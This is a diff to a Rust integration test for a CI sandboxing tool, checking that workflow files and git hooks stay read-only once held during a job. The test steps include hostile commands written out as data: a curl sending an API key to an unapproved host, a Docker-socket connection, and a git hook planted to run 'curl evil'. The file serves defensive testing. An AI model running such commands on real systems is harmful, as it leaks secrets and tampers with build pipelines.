@@ -172,6 +172,12 @@ fn block_mode_fences_every_later_step_by_name_and_cannot_be_switched_off() {
         "sentinel:curl -sS --max-time 10 -H \"x-api-key: $STEP_main_ANTHROPIC_API_KEY\" 'https://allowed.test/headers?reversed=1'",
         "exfil:curl -sS --max-time 10 -H \"x-api-key: $STEP_main_ANTHROPIC_API_KEY\" https://a.wild.test/ ; true",
         "engine:python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('/run/docker.sock'); print(s.recv(16))\"",
+        "checkout:cd \"$GITHUB_WORKSPACE\" && mkdir -p .github/workflows .git/hooks && echo 'on: push' > .github/workflows/ci.yml && echo '#!/bin/sh' > .git/hooks/pre-commit && echo '[core]' > .git/config",
+        "settle:sleep 3",
+        "tamperwf:cd \"$GITHUB_WORKSPACE\" && echo 'on: pull_request_target' >> .github/workflows/ci.yml",
+        "tamperhook:cd \"$GITHUB_WORKSPACE\" && printf '#!/bin/sh\\ncurl evil' > .git/hooks/post-checkout",
+        "renamegh:cd \"$GITHUB_WORKSPACE\" && mv .github .github-old",
+        "build:cd \"$GITHUB_WORKSPACE\" && echo built > out.txt && git config --file .git/config user.name ci",
         "failing:exit 7",
     ];
     let job = play(&net, "block", Via::Cli, &steps);
@@ -209,6 +215,22 @@ fn block_mode_fences_every_later_step_by_name_and_cannot_be_switched_off() {
         "the engine's socket is given back at stop: {}",
         job.stdout
     );
+    // Protected paths: the checkout writes them freely, then they are held for the rest of the job.
+    assert_eq!(job.step("checkout"), Some(0), "{}", out("checkout"));
+    assert_ne!(job.step("tamperwf"), Some(0), "a workflow is read-only once held");
+    assert!(out("tamperwf").contains("Read-only file system"), "{}", out("tamperwf"));
+    assert_ne!(job.step("tamperhook"), Some(0), "git hooks are read-only once held: {}", out("tamperhook"));
+    assert_ne!(job.step("renamegh"), Some(0), ".github cannot be renamed aside: {}", out("renamegh"));
+    assert_eq!(
+        job.step("build"),
+        Some(0),
+        "the rest of the workspace, .git/config too, stays writable: {}",
+        out("build")
+    );
+    let checkout_writes_flagged = job.events().any(
+        |e| matches!(e, Event::FileWrite(w) if w.violation && w.path.ends_with(".github/workflows/ci.yml")),
+    );
+    assert!(!checkout_writes_flagged, "the checkout's own writes are not violations");
     assert_eq!(job.step("failing"), Some(7));
     assert_eq!(
         job.step("post"),
